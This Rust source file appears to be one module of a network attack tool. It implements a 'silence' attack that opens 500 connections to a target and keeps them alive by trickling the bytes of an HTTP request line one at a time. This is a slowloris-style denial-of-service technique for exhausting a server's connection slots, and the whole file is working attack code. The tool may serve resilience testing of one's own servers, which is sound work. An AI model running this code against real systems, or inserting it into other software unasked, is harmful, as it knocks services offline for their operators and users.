//! Connections are opened, and nothing is said on them, or one byte now and then.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::attack::{Attack, AttackFuture, Target};

#[derive(Debug)]
pub(crate) struct Silence;

impl Attack for Silence {
    fn name(&self) -> &'static str {
        "silence"
    }

    fn run<'a>(&'a self, target: &'a Target) -> AttackFuture<'a> {
        Box::pin(async move {
            let mut silent = Vec::new();
            for _ in 0..500 {
                silent.extend(target.connect().await.ok());
            }
            for byte in b"GET / HTTP" {
                for connection in silent.iter_mut().step_by(2) {
                    let _ = connection.write_all(&[*byte]).await;
                }
                sleep(Duration::from_millis(500)).await;
            }
        })
    }
}
